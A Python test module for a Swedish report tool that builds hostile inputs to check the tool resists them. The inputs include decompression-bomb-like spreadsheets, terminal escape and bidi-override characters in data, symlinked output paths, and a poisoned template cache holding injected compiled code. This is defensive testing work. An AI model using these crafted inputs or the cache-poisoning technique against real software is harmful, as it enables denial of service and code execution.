"""The hostile-input catalogue: one case per attack of issue 12 (and the Windows reading of
issue 15), each a command run as the user runs it, with the exit code it must give and the
words the user must see. ``tests/test_hostile_cases.py`` runs them; ``tools/make_catalogue.py``
runs them too and writes what the user saw into docs/felkatalog.md, so the catalogue cannot
drift from the code. The finer points of each are pinned by tests/test_hostile_*.py.
"""

from __future__ import annotations

import copy
import os
import stat
import subprocess
import sys
import unicodedata
from collections.abc import Callable
from contextlib import contextmanager, nullcontext
from dataclasses import dataclass
from pathlib import Path

from helpers import minimal_tables, patch_parts, read_sample, write_csv_folder, write_workbook


@dataclass(frozen=True)
class Case:
    what: str  # the attack, in Swedish, for the catalogue
    make: Callable[[Path], list[str]]  # builds its files under a folder, returns the argv
    exit: int
    needle: str  # words the output must hold; the catalogue shows the message around them
    check: Callable[[Path], None] | None = None  # what must be true afterwards
    env: dict | None = None
    process: bool = False  # run as a real process (terminal encoding, closed pipe)
    closed_pipe: bool = False
    shown: str = ""  # what the catalogue says when the result is a behaviour, not a message
    platform: Callable | None = None  # a context manager that simulates another platform
    tty: bool = False  # run as a real process on a terminal (a pseudo-terminal)


def sample(tmp: Path, form: str = "csv", edit=None) -> Path:
    tables = copy.deepcopy(read_sample())
    if edit:
        edit(tables)
    if form == "xlsx":
        return write_workbook(tmp / "register.xlsx", tables)
    return write_csv_folder(tmp / "data", tables)


def course_name(name: str):
    def edit(tables):
        rows = tables["kurser"]
        rows[1][rows[0].index("namn")] = name
    return edit


# 1-3: never lose or expose the clerk's files

def onto_register(tmp):
    reg = sample(tmp, "xlsx")
    return ["build", "2009", "--data", reg, "--format", "docx", "-o", reg]


def into_data_folder(tmp):
    data = sample(tmp)
    return ["build", "2009", "--data", data, "--format", "md", "-o", data / "kurser.csv"]


def into_templates(tmp):
    from pk_report.report.own_templates import export_templates

    export_templates(tmp / "mallar", False)
    return ["build", "2009", "--mallar", tmp / "mallar", "-o", tmp / "mallar" / "rapport.md"]


def mall_over_register(tmp):
    return ["mall", "--force", sample(tmp, "xlsx")]


def replaced_shared_file(tmp):
    (tmp / "delad.md").write_text("gammal")
    (tmp / "delad.md").chmod(0o664)
    return ["build", "2009", "-o", tmp / "delad.md"]


def mode_kept(tmp):
    assert stat.S_IMODE((tmp / "delad.md").stat().st_mode) == 0o664


def through_link(tmp):
    (tmp / "rapporter").mkdir()
    (tmp / "rapporter" / "2009.md").write_text("gammal")
    (tmp / "senaste.md").symlink_to(tmp / "rapporter" / "2009.md")
    return ["build", "2009", "-o", tmp / "senaste.md"]


def link_kept(tmp):
    assert (tmp / "senaste.md").is_symlink()
    assert (tmp / "rapporter" / "2009.md").read_text(encoding="utf-8").startswith("# Rapport")


def to_dev_stdout(tmp):
    (tmp / "ut").symlink_to("/dev/stdout")  # a link: code that replaces it replaces the link
    return ["build", "2009", "--format", "md", "-o", tmp / "ut"]


def to_dev_full(tmp):
    (tmp / "full").symlink_to("/dev/full")
    return ["build", "2009", "--format", "md", "-o", tmp / "full"]


# 5: anonymity of IDI styles

def idi_small_group(tmp):
    styles = {"Producer": 5, "Relator": 1}
    tables = minimal_tables(
        kurser=[{"ar": 2010, "kurs_id": "k", "namn": "IDI-kurs"}],
        tillfallen=[{"tillfalle_id": "t", "kurs_id": "k", "datum": "2010-03-01"}],
        deltagare=[{"tillfalle_id": "t", "namn": f"P{i}"} for i in range(6)],
        idi=[{"tillfalle_id": "t", "stil": s} for s, n in styles.items() for _ in range(n)])
    return ["build", "2010", "--data", write_csv_folder(tmp / "d", tables), "-o", tmp / "r.md"]


def no_single_style(tmp):
    text = (tmp / "r.md").read_text(encoding="utf-8")
    assert "Relator" not in text and "Producer" not in text


def one_evaluator(tmp, settings=()):
    """Attack finding 1: one course with a single form (grade 1 and a comment) beside a course
    with seven; the report must give away neither the grade nor the comment."""
    tables = minimal_tables(
        kurser=[{"ar": 2010, "kurs_id": "k", "namn": "Liten kurs"},
                {"ar": 2010, "kurs_id": "b", "namn": "Stor kurs"}],
        tillfallen=[{"tillfalle_id": "t", "kurs_id": "k", "datum": "2010-03-01"},
                    {"tillfalle_id": "u", "kurs_id": "b", "datum": "2010-04-01"}],
        deltagare=[{"tillfalle_id": "t", "namn": f"P{i}"} for i in range(6)]
        + [{"tillfalle_id": "u", "namn": f"Q{i}"} for i in range(8)],
        utvarderingar=[{"tillfalle_id": "t", "kon": "K", "betyg": 1, "kommentar": "Usel kurs"}]
        + [{"tillfalle_id": "u", "betyg": 4} for _ in range(7)],
        installningar=[{"nyckel": k, "varde": v} for k, v in settings])
    return write_csv_folder(tmp / "d", tables)


def one_evaluator_report(tmp):
    return ["build", "2010", "--med-kommentarer", "--data", one_evaluator(tmp), "-o", tmp / "r.md"]


def no_single_grade(tmp):
    text = (tmp / "r.md").read_text(encoding="utf-8")
    assert "Usel kurs" not in text and "lägsta betyget" not in text
    assert "vanligaste betyget" not in text and "Underkänt”." not in text


def threshold_one(tmp):
    return ["validera", "--data", one_evaluator(tmp, [("anonymitetsgrans", "1")])]


# 6-7: never crash, never hang

def far_cells(tmp):
    path = write_workbook(tmp / "register.xlsx", read_sample())
    return ["validera", "--data", patch_parts(path, lambda name, data: data.replace(
        b"</sheetData>", b'<row r="1048576"><c r="AL1048576"><v>1</v></c></row></sheetData>')
        if name.startswith("xl/worksheets/") else data)]


def claimed_strings(tmp):
    path = write_workbook(tmp / "register.xlsx", read_sample())
    patch_parts(path, lambda name, data: data.replace(b"</Relationships>", (
        b'<Relationship Id="rIdS" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>'))
        if name == "xl/_rels/workbook.xml.rels" else data)
    import zipfile

    with zipfile.ZipFile(path, "a") as z:
        z.writestr("xl/sharedStrings.xml", '<sst count="1" uniqueCount="4000000000"><si><t>x'
                                           '</t></si></sst>')
    return ["validera", "--data", path]


def error_cells(tmp):
    path = write_workbook(tmp / "register.xlsx", read_sample())
    cells = b"".join(b'<c r="AZ%d" t="e"/>' % i for i in range(900, 9900))
    return ["validera", "--data", patch_parts(path, lambda name, data: data.replace(
        b"</sheetData>", b'<row r="900">' + cells + b"</row></sheetData>")
        if name.endswith("sheet1.xml") else data)]


def ods_on_windows(tmp):
    import pandas as pd

    folder = tmp / "Mina filer"
    folder.mkdir()
    path = folder / "Registret å ä ö.ods"
    with pd.ExcelWriter(path, engine="odf") as writer:
        for name, rows in read_sample().items():
            pd.DataFrame(rows[1:], columns=rows[0]).to_excel(writer, sheet_name=name, index=False)
    return ["validera", "--data", path]


@contextmanager
def windows():
    """This platform as Windows is: no ``resource`` module, no ``fork`` (a spawned child)."""
    from pk_report.readers import isolate

    saved = isolate.resource, isolate.start_methods
    isolate.resource, isolate.start_methods = None, lambda: ["spawn"]
    try:
        yield
    finally:
        isolate.resource, isolate.start_methods = saved


# 9: ordinary conditions

def template(text: str):
    def make(tmp):
        folder = tmp / "mallar"
        folder.mkdir()
        (folder / "rapport.md.j2").write_text(f"# Rubrik\n\n{text}\n", encoding="utf-8")
        return ["build", "2009", "--mallar", folder]
    return make


def truncated_cache(tmp):
    env = {**os.environ, "XDG_CACHE_HOME": str(tmp / "cache")}
    subprocess.run([sys.executable, "-m", "pk_report", "build", "2009"], env=env,
                   check=True, capture_output=True)
    for path in (tmp / "cache").rglob("*.cache"):
        path.write_bytes(path.read_bytes()[:30])
    return ["build", "2009", "-o", tmp / "r.md"]


def nonexistent_home(tmp):
    return ["build", "2009", "-o", tmp / "r.md"]


def no_home_made(tmp):
    assert not (tmp / "finns-inte").exists()


def plain(*argv):
    return lambda tmp: list(argv)


# 10-14: print what the data says

def markup_course(tmp):
    return ["stats", "--per", "tillfalle", "--data", sample(tmp, edit=course_name(
        "Ledarskap [/] styrning"))]


def bracket_path(tmp):
    return ["validera", "--data", tmp / "Register [kopia]" / "x.xlsx"]


def escape_course(tmp):
    return ["validera", "--data", sample(tmp, edit=course_name("Kurs \x1b]8;;http://x\x07länk"))]


def late_nul(tmp):
    data = sample(tmp)
    path = data / "deltagare.csv"
    raw = path.read_bytes()
    path.write_bytes(raw[:-10] + b"\x00" + raw[-10:])
    return ["validera", "--data", data]


def brackets_once(tmp):
    return ["build", "2008", "--data", sample(tmp, edit=course_name("Ledarskap [del 1]")),
            "-o", tmp / "r.md"]


def escaped_once(tmp):
    text = (tmp / "r.md").read_text(encoding="utf-8")
    assert "Ledarskap \\[del 1\\]" in text and "\\\\\\[" not in text


def nfd_register(tmp):
    tables = {name: [[unicodedata.normalize("NFD", c) for c in row] for row in rows]
              for name, rows in read_sample().items()}
    return ["validera", "--data", write_csv_folder(tmp / "data", tables)]


CASES = [
    # 1-3
    Case("-o pekar på registret (`build 2009 --data reg.xlsx --format docx -o reg.xlsx`)",
         onto_register, 2, "är registret"),
    Case("-o i datamappen (`--format md -o data/kurser.csv`)", into_data_folder, 2,
         "ligger i datamappen"),
    Case("-o i mallmappen (`--mallar mallar -o mallar/rapport.md`)", into_templates, 2,
         "ligger i mallmappen"),
    Case("`mall --force` på registret som PK_REPORT_DATA pekar på", mall_over_register, 2,
         "är registret", env={"PK_REPORT_DATA": "{tmp}/register.xlsx"}),
    Case("utdata över en fil med rättigheterna 0664 (umask 022)", replaced_shared_file, 0, "",
         check=mode_kept, shown="filen behåller 0664; en ny fil får umaskens 0644"),
    Case("-o är en symbolisk länk", through_link, 0, "", check=link_kept,
         shown="länkens mål skrivs (atomiskt, bredvid målet); länken finns kvar"),
    Case("-o /dev/stdout (via en länk)", to_dev_stdout, 0, "# Rapport", process=True,
         shown="rapporten kommer på standard ut; enheten (och länken) ersätts aldrig"),
    Case("full disk (-o /dev/full)", to_dev_full, 1, "Disken är full"),
    # 5
    Case("IDI-stilar under anonymitetsgränsen (fem Producer och en Relator)", idi_small_group,
         0, "", check=no_single_style,
         shown="varken meningen eller tabellen om IDI skrivs: ingen stil kan räknas fram"),
    Case("en kurs med en enda utvärdering (betyget 1 och en kommentar) bredvid en med sju, "
         "`--med-kommentarer`", one_evaluator_report, 0, "", check=no_single_grade,
         shown="kursen redovisas bara med antal; varken betyget, kommentaren eller årets "
               "lägsta betyg skrivs"),
    Case("`anonymitetsgrans` 1", threshold_one, 0, "rapporten använder 3"),
    # 6-7
    Case("arbetsbok på 70 kB vars alla blad når cell AL1048576", far_cells, 1, "tillsammans"),
    Case("teckensträngstabell som påstår 4 miljarder poster", claimed_strings, 1,
         "teckensträngstabell"),
    Case("9 000 självstängande felceller (`<c r=\"AZ900\" t=\"e\"/>`)", error_cells, 0, "",
         shown="läses på bråkdelen av en sekund (förut 23 s för 118 kB)"),
    Case(".ods i en mapp med mellanslag och å, ä, ö, på en plattform utan `resource` och "
         "`fork` (Windows)", ods_on_windows, 0, "Inga fel", platform=windows,
         shown="läses i en startad (spawn) barnprocess: inga fel"),
    # 9
    Case("mall: `{{ 1/0 }}`", template("{{ 1/0 }}"), 1, "division med noll"),
    Case("mall: `{% include \"saknas.md.j2\" %}`", template('{% include "saknas.md.j2" %}'), 1,
         "saknas.md.j2"),
    Case("mall som tar med sig själv", template('{% include "rapport.md.j2" %}'), 1,
         "tar med sig själv"),
    Case("mall: okänt ord för `antal`", template('{{ 3 | antal("äpple") }}'), 1, "äpple"),
    Case("mall: okänt filter", template("{{ 3 | okand }}"), 1, "okänt filter"),
    Case("avkortad fil i mallcachen", truncated_cache, 0, "",
         env={"XDG_CACHE_HOME": "{tmp}/cache"},
         shown="posten kastas och skrivs om; rapporten blir densamma"),
    Case("HOME pekar på en mapp som inte finns", nonexistent_home, 0, "", check=no_home_made,
         env={"HOME": "{tmp}/finns-inte", "XDG_CACHE_HOME": None},
         shown="ingen cache, inga mappar skapas"),
    Case("läsaren stänger röret (`pk-report build 2009 \\| head -1`)", plain("build", "2009"), 0,
         "", process=True, closed_pipe=True, shown="inget meddelande"),
    Case("Latin-1-terminal (`LANG=sv_SE.ISO-8859-1`)", plain("validera"), 0, "* kostnader.csv",
         process=True, env={"PYTHONIOENCODING": "iso-8859-1"},
         shown="`•` och `–` skrivs som `*` och `-` (”* kostnader.csv, rad 21 …”), å, ä, ö som de är"),
    # 10-14
    Case("kursnamn med rich-markup (`Ledarskap [/] styrning`)", markup_course, 0,
         "Ledarskap [/] styrning", env={"COLUMNS": "250"},
         shown="namnet visas som det står, `[/]` och `[del 1]` med"),
    Case("sökväg med hakparenteser (`--data \"Register [kopia]/x.xlsx\"`)", bracket_path, 2,
         "Register [kopia]"),
    Case("terminalkoder i en cell (ESC, OSC, BEL)", escape_course, 0, "styrtecken"),
    Case("NUL efter de första 64 kB av en CSV-fil", late_nul, 1, "binära tecken"),
    Case("kursnamn med hakparenteser i översikten", brackets_once, 0, "", check=escaped_once,
         shown="skyddas en gång: `Ledarskap \\[del 1\\]` i Markdown, [del 1] i HTML och Word"),
    Case("register skrivet i NFD (macOS)", nfd_register, 0, "Inga fel",
         shown="läses som NFC: inga fel (förut 2 347), ”Åsa Öberg” i NFC och NFD är en person"),
    Case("`COLUMNS=20`: kortvyn", plain("stats", "2009"), 0, "Id stiftelse_bidrag",
         env={"COLUMNS": "20"},
         shown="ett kort per kurs, så brett som dess längsta id (”stiftelse_bidrag” hel på en rad)"),
    Case("`COLUMNS=0`", plain("validera"), 0, "Negativt belopp", env={"COLUMNS": "0"},
         shown="bredden räknas som okänd (80 tecken): allt skrivs ut"),
]


# issue 18, 4: a compiled template is run only from a cache no one else can write

def planted_cache(tmp):
    """A shared cache folder (0777) where someone has replaced every compiled template with
    code that leaves a file behind."""
    import marshal
    import pickle

    from jinja2.bccache import bc_magic

    cache = tmp / "delad-cache"
    cache.mkdir()
    env = {**os.environ, "XDG_CACHE_HOME": str(cache)}
    cache.chmod(0o700)
    subprocess.run([sys.executable, "-m", "pk_report", "build", "2009", "-o", tmp / "r0.md"],
                   env=env, check=True, capture_output=True)
    evil = marshal.dumps(compile(f"open({str(tmp / 'planterad')!r}, 'w').close()", "x", "exec"))
    for path in cache.rglob("*.cache"):
        with path.open("rb") as fh:
            fh.read(len(bc_magic))
            checksum = pickle.load(fh)
        path.write_bytes(bc_magic + pickle.dumps(checksum, 2) + evil)
    for folder in [cache, *[p for p in cache.rglob("*") if p.is_dir()]]:
        folder.chmod(0o777)
    return ["build", "2009", "-o", tmp / "r.md"]


def nothing_planted_ran(tmp):
    assert not (tmp / "planterad").exists()
    before = (tmp / "r0.md").read_text(encoding="utf-8").replace("r0_diagram/", "r_diagram/")
    assert (tmp / "r.md").read_text(encoding="utf-8") == before


CASES += [
    Case("mallcache i en delad mapp (0777) där någon lagt in egen kod", planted_cache, 0, "",
         check=nothing_planted_ran, env={"XDG_CACHE_HOME": "{tmp}/delad-cache"},
         shown="cachen används inte (mappen är skrivbar för andra): ingen planterad kod körs, "
               "rapporten blir densamma"),
]


# issue 18, 5: what calamine will build, measured (no r attributes, names, shared strings)

def _sheet_part(path, name_of_sheet: str) -> str:
    import re
    import zipfile

    with zipfile.ZipFile(path) as z:
        book, rels = z.read("xl/workbook.xml"), z.read("xl/_rels/workbook.xml.rels")
    rid = re.search(rb'name="%s"[^>]*r:id="([^"]+)"' % name_of_sheet.encode(), book).group(1)
    target = re.search(rb'Id="%s"[^>]*Target="([^"]+)"' % rid, rels) or \
        re.search(rb'Target="([^"]+)"[^>]*Id="%s"' % rid, rels)
    return "xl/" + target.group(1).decode().removeprefix("/xl/").removeprefix("xl/")


def _patched_sheet(tmp, sheet: str, edit) -> Path:
    path = write_workbook(tmp / "register.xlsx", read_sample())
    part = _sheet_part(path, sheet)
    return patch_parts(path, lambda name, data: edit(data) if name == part else data)


NO_R = b"<row>" + b"<c><v>1</v></c>" * 16384 + b'</row><row r="1048576"><c><v>1</v></c></row>'


def cells_without_r(tmp):
    return ["validera", "--data", _patched_sheet(tmp, "kurser", lambda d: d.replace(
        b"</sheetData>", NO_R + b"</sheetData>"))]


def far_cell_in_first_row(tmp):
    return ["validera", "--data", _patched_sheet(tmp, "kurser", lambda d: d.replace(
        b"</row>", b'<c r="XFD99999"><v>1</v></c></row>', 1))]


def same_sheet_name(tmp):
    path = write_workbook(tmp / "register.xlsx", read_sample())
    return ["validera", "--data", patch_parts(path, lambda name, data: data.replace(
        b'name="tillfallen"', b'name="kurser"', 1) if name == "xl/workbook.xml" else data)]


def referenced_sheet_name(tmp):
    path = _patched_sheet(tmp, "kurser", lambda d: d.replace(b"</sheetData>",
                                                            NO_R + b"</sheetData>"))
    return ["validera", "--data", patch_parts(path, lambda name, data: data.replace(
        b'name="kurser"', b'name="&#107;urser"', 1) if name == "xl/workbook.xml" else data)]


def single_quoted_name(tmp):
    path = _patched_sheet(tmp, "kurser", lambda d: d.replace(
        b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'))
    return ["validera", "--data", patch_parts(path, lambda name, data: data.replace(
        b'name="kurser"', b"name='kurser'", 1) if name == "xl/workbook.xml" else data)]


def long_shared_string(tmp):
    import zipfile

    cells = b"".join(b'<c r="Z%d" t="s"><v>0</v></c>' % i for i in range(2, 1002))
    path = _patched_sheet(tmp, "kurser", lambda d: d.replace(
        b"</sheetData>", b'<row r="1002">' + cells + b"</row></sheetData>"))
    patch_parts(path, lambda name, data: data.replace(b"</Relationships>", (
        b'<Relationship Id="rIdS" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>'))
        if name == "xl/_rels/workbook.xml.rels" else data)
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as z:
        z.writestr("xl/sharedStrings.xml", b'<sst count="1000" uniqueCount="1"><si><t>'
                   + b"x" * 9_500_000 + b"</t></si></sst>")
    return ["validera", "--data", path]


def small_file(limit: int):
    def check(tmp):
        assert (tmp / "register.xlsx").stat().st_size < limit
    return check


CASES += [
    Case("rader och celler utan `r` (16 384 celler i rad 1, en cell i rad 1 048 576; "
         "70 kB, förr mätt som 0 × 26 celler: calamine avbröt processen)", cells_without_r, 1,
         "16 384 kolumner", check=small_file(100_000)),
    Case("en cell vars egen referens (XFD99999) ligger långt under bladets sista rad",
         far_cell_in_first_row, 1, "99 999 rader"),
    Case("två blad med samma namn (”kurser”)", same_sheet_name, 1, "två blad som heter"),
    Case("bladnamn skrivet med teckenreferens (`&#107;urser`) och celler utan `r`",
         referenced_sheet_name, 1, "16 384 kolumner"),
    Case("bladnamn i enkla citattecken (`name='kurser'`) och en cell i XFD1048576",
         single_quoted_name, 1, "16 384 kolumner"),
    Case("en delad textsträng på 9,5 MB som 1 000 celler pekar på (85 kB, förr över 9 GB)",
         long_shared_string, 1, "teckensträngstabellen", check=small_file(100_000)),
]


# issue 18, 6, 7, 14, 15: what the clerk types reaches every format as text, once

def setting(key: str, value: str):
    def edit(tables):
        rows = tables["installningar"]
        for row in rows[1:]:
            if row[0] == key:
                row[1] = value
                return
        rows.append([key, value])
    return edit


def both(*edits):
    def edit(tables):
        for e in edits:
            e(tables)
    return edit


def build_with(edit, form: str, *more, year: str = "2009"):
    def make(tmp):
        return ["build", year, "--data", sample(tmp, edit=edit), "--format", form,
                "-o", tmp / f"r.{form}", *more]
    return make


def docx_core(tmp) -> str:
    import xml.etree.ElementTree as ET
    import zipfile

    with zipfile.ZipFile(tmp / "r.docx") as z:
        for name in z.namelist():
            if name.endswith(".xml") or name.endswith(".rels"):
                ET.fromstring(z.read(name))  # Word refuses a part that is not XML
        return z.read("docProps/core.xml").decode("utf-8")


def backslash_kept(tmp):
    assert "Göteborgs Stad\\Stadskansliet" in docx_core(tmp)


def docx_whole(tmp):
    core = docx_core(tmp)
    assert "\x07" not in core and "\uffff" not in core


def pdf_made(tmp):
    assert (tmp / "r.pdf").read_bytes().startswith(b"%PDF")


def no_bidi(tmp):
    text = (tmp / "r.md").read_text(encoding="utf-8")
    assert "\u202e" not in text and "Ledarskap skrapdeL" in text


def kommun_once(tmp):
    body = (tmp / "r.html").read_text(encoding="utf-8").split("<body", 1)[1]
    assert body.count("Nord") == 1 and 'Kommun -- "Nord"' in body.replace("&quot;", '"'), body


CONTROL_KOMMUN = both(setting("kommun", "Kommunen\x07 Nord\uffff"),
                      setting("diarienummer", "KS\x01 2009/12\ufffe"))

CASES += [
    Case("omvänt snedstreck i kommun (`Göteborgs Stad\\Stadskansliet`), Word",
         build_with(setting("kommun", "Göteborgs Stad\\Stadskansliet"), "docx"), 0, "",
         check=backslash_kept, shown="namnet står som det är skrivet i dokumentegenskaperna "
                                     "(förut kod 70, ”bad escape”)"),
    Case("styrtecken, U+FFFE och U+FFFF i kommun och diarienummer, Word",
         build_with(CONTROL_KOMMUN, "docx"), 0, "", check=docx_whole,
         shown="tecknen tas bort när cellen läses; Word-filens egenskaper är giltig XML"),
    Case("styrtecken, U+FFFE och U+FFFF i kommun och diarienummer, PDF",
         build_with(CONTROL_KOMMUN, "pdf"), 0, "", check=pdf_made,
         shown="PDF-filen skapas, utan tecknen"),
    Case("riktningstecken (U+202E) i ett kursnamn, `validera`",
         lambda tmp: ["validera", "--data", sample(tmp, edit=course_name(
             "Ledarskap \u202eskrapdeL"))], 0, "vänder textens riktning"),
    Case("riktningstecken (U+202E) i ett kursnamn, rapporten",
         build_with(course_name("Ledarskap \u202eskrapdeL"), "md", year="2008"), 0, "", check=no_bidi,
         shown="tecknet tas bort: namnet visas i den ordning det skrevs"),
    Case("`kommun` med `--` och citattecken (`Kommun -- \"Nord\"`), webbsidan",
         build_with(setting("kommun", 'Kommun -- "Nord"'), "html"), 0, "", check=kommun_once,
         shown="en gång under rubriken, som det skrevs (förut två gånger, den andra med tankstreck "
               "och typografiska citattecken)"),
]


# issue 18, 8 and 17: ordinary messages that name the file

def year_digits(tmp):
    return ["build", "2" * 4400, "-o", tmp / "r.md"]


def text_year_digits(tmp):
    def edit(tables):
        tables["texter"].append(["2" * 4400] + [""] * (len(tables["texter"][0]) - 1))
    return ["validera", "--data", sample(tmp, edit=edit)]


def long_name(n: int):
    def make(tmp):
        return ["build", "2009", "--utan-diagram", "-o", tmp / ("a" * (n - 3) + ".md")]
    return make


def mall_under_file(tmp):
    (tmp / "fil").write_text("x")
    return ["mall", "--mallar", tmp / "fil" / "mallar"]


def ansi_template(tmp):
    (tmp / "mallar").mkdir()
    (tmp / "mallar" / "rapport.md.j2").write_bytes("# Rubrik för året\n".encode("cp1252"))
    return ["build", "2009", "--mallar", tmp / "mallar", "-o", tmp / "r.md"]


def big_css(tmp):
    (tmp / "mallar").mkdir()
    with (tmp / "mallar" / "rapport.css").open("wb") as fh:
        fh.truncate(20 * 1024**2)
    return ["build", "2009", "--mallar", tmp / "mallar", "--format", "html", "-o", tmp / "r.html"]


def broken_reference(tmp):
    (tmp / "mallar").mkdir()
    (tmp / "mallar" / "reference.docx").write_bytes(b"PK\x03\x04 inte en hel zip")
    return ["build", "2009", "--mallar", tmp / "mallar", "--format", "docx", "-o", tmp / "r.docx"]


CASES += [
    Case("år med 4 400 siffror som argument", year_digits, 2, "4 400 siffror"),
    Case("år med 4 400 siffror i `texter.ar`", text_year_digits, 1, "4 400 siffror"),
    Case("-o med ett namn på 250 byte (den tillfälliga filen fick ett längre namn)",
         long_name(250), 0, "Skrev", shown="filen skrivs"),
    Case("-o med ett namn på 260 byte", long_name(260), 1, "namnet är för långt"),
    Case("`mall --mallar fil/mallar` där `fil` är en fil", mall_under_file, 2, "är en fil"),
    Case("mall sparad som Windows-1252 (Anteckningar: ”ANSI”)", ansi_template, 1,
         "inte sparad som UTF-8"),
    Case("`rapport.css` på 20 MB i mallmappen", big_css, 1, "långt mer än en mall"),
    Case("trasig `reference.docx` i mallmappen", broken_reference, 1, "ingen giltig Word-fil"),
]


# issue 18, 16: repeats and long lists

ODS_CONTENT = (
    b'<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:'
    b'names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:'
    b'table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
    b'<office:body><office:spreadsheet><table:table table:name="kurser"><table:table-row>'
    b'<table:table-cell office:value-type="string"><text:p>ar</text:p></table:table-cell>'
    b'<table:table-cell office:value-type="string"><text:p>kurs_id</text:p></table:table-cell>'
    b'</table:table-row><table:table-row table:number-rows-repeated="%d"><table:table-cell '
    b'office:value-type="string" table:number-columns-repeated="%d"><text:p>x</text:p>'
    b'</table:table-cell></table:table-row></table:table></office:spreadsheet></office:body>'
    b'</office:document-content>')


def repeated_ods(rows: int, columns: int):
    def make(tmp):
        import zipfile

        path = tmp / "register.ods"
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
            z.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet",
                       compress_type=zipfile.ZIP_STORED)
            z.writestr("content.xml", ODS_CONTENT % (rows, columns))
        return ["validera", "--data", path]
    return make


def many_bad_rows(tmp):
    def edit(tables):
        tables["kostnader"] += [["2009", "okand", "x", "abc"]] * 20_000
        tables["kurser"][0] += [f"extra{i}" for i in range(2_000)]
        for row in tables["kurser"][1:]:
            row += [""] * 2_000
    return ["validera", "--data", sample(tmp, edit=edit)]


CASES += [
    Case(".ods på 824 byte med en ifylld rad upprepad en miljon gånger, 40 celler bred",
         repeated_ods(1_000_000, 40), 1, "upprepade rader"),
    Case("20 000 rader med samma två fel och 2 000 okända kolumner (CSV)", many_bad_rows, 1,
         "… och 19 997 rader till med samma fel"),
]


# issue 18, 20: messages that say what is wrong

def templates_as_file(tmp):
    (tmp / "fil.txt").write_text("x")
    return ["build", "2009", "--mallar", tmp / "fil.txt", "-o", tmp / "r.md"]


def output_under_file(tmp):
    (tmp / "fil.txt").write_text("x")
    return ["build", "2009", "-o", tmp / "fil.txt" / "r.md"]


def utf16_csv(tmp):
    data = sample(tmp)
    path = data / "kurser.csv"
    path.write_bytes(path.read_text(encoding="utf-8").encode("utf-16"))
    return ["validera", "--data", data]


def fifo_csv(tmp):
    data = sample(tmp)
    (data / "kurser.csv").unlink()
    os.mkfifo(data / "kurser.csv")
    return ["validera", "--data", data]


def formula_without_value(tmp):
    import re

    return ["validera", "--data", _patched_sheet(tmp, "kurser", lambda d: re.sub(
        rb'(<c r="B3")[^>]*>.*?</c>', rb'\1><f>UPPER("x")</f></c>', d, count=1, flags=re.S))]


def long_xlsx_cell(tmp):
    return ["validera", "--data", _patched_sheet(tmp, "kurser", lambda d: d.replace(
        b'<c r="C2" t="inlineStr"><is><t>', b'<c r="C2" t="inlineStr"><is><t>' + b"x" * 40_000))]


CASES += [
    Case("formelcell utan uträknat värde (som openpyxl skriver den)", formula_without_value, 1,
         "inget uträknat värde"),
    Case("cell i .xlsx med 40 000 tecken", long_xlsx_cell, 1, "Korta texten"),
    Case("`--mallar fil.txt` (en fil)", templates_as_file, 2, "är en fil, inte en mapp"),
    Case("`-o fil.txt/r.md` där `fil.txt` är en fil", output_under_file, 1,
         "är en fil, inte en mapp"),
    Case("CSV sparad som UTF-16 (Excels ”Unicode-text”)", utf16_csv, 1, "UTF-16"),
    Case("`PK_REPORT_DATA=/`", plain("validera"), 1, "innehåller inga CSV-filer",
         env={"PK_REPORT_DATA": "/"}),
    Case("namngiven pipe (FIFO) som heter `kurser.csv`", fifo_csv, 1, "ingen vanlig fil"),
]


# issue 18, 18: matplotlib's folders

def read_only_home(tmp):
    (tmp / "hem").mkdir()
    (tmp / "hem").chmod(0o555)
    return ["build", "2009", "--format", "docx", "-o", tmp / "r.docx"]


def home_untouched(tmp):
    assert not (tmp / "finns-inte").exists()
    home = tmp / "hem"  # (root may write in it all the same: then only our own cache is there)
    assert not (home / ".config").exists() and not (home / ".cache" / "matplotlib").exists()


def no_english(output: str) -> None:
    assert "Matplotlib" not in output and "matplotlib" not in output, output


CASES += [
    Case("HOME finns inte, Word med diagram (matplotlib)", lambda tmp: [
        "build", "2009", "--format", "docx", "-o", tmp / "r.docx"], 0, "Skrev", process=True,
         env={"HOME": "{tmp}/finns-inte", "XDG_CACHE_HOME": None}, check=home_untouched,
         shown="inga mappar skapas (förut $HOME/.cache och $HOME/.config); matplotlib får en "
               "tillfällig mapp som tas bort efteråt"),
    Case("HOME skrivskyddad, Word med diagram (matplotlib)", read_only_home, 0, "Skrev",
         process=True, env={"HOME": "{tmp}/hem", "XDG_CACHE_HOME": None}, check=home_untouched,
         shown="inga engelska varningar från matplotlib; matplotlib skriver aldrig själv i HOME"),
]


# issue 18, 19: NO_COLOR and TERM=dumb

def plain_terminal(extra: dict):
    return Case(f"`{' '.join(f'{k}={v}' for k, v in extra.items())}` i en terminal "
                "(`build 2009`)", lambda tmp: ["build", "2009", "-o", tmp / "r.md"], 0,
                "Använder den medföljande", env=extra, tty=True,
                shown="statusraderna på stderr skrivs utan färg och utan dämpad stil "
                      "(inga ESC-sekvenser)")


CASES += [plain_terminal({"NO_COLOR": "1"}), plain_terminal({"TERM": "dumb"})]


def environment(case: Case, tmp: Path) -> dict:
    """The case's environment, ``{tmp}`` filled in; None removes a variable."""
    return {k: (v.replace("{tmp}", str(tmp)) if isinstance(v, str) else v)
            for k, v in (case.env or {}).items()}


def run_case(case: Case, tmp: Path) -> tuple[int, str]:
    """(exit code, everything the user saw), as the user runs it."""
    argv = [str(a) for a in case.make(tmp)]
    env = environment(case, tmp)
    if case.tty:
        return _on_terminal(argv, env)
    if case.process:
        full = {**os.environ, **{k: v for k, v in env.items() if v is not None}}
        for k in [k for k, v in env.items() if v is None]:
            full.pop(k, None)
        if case.closed_pipe:
            read_end, write_end = os.pipe()
            os.close(read_end)
            proc = subprocess.run([sys.executable, "-m", "pk_report", *argv], env=full,
                                  stdout=write_end, stderr=subprocess.PIPE, timeout=120)
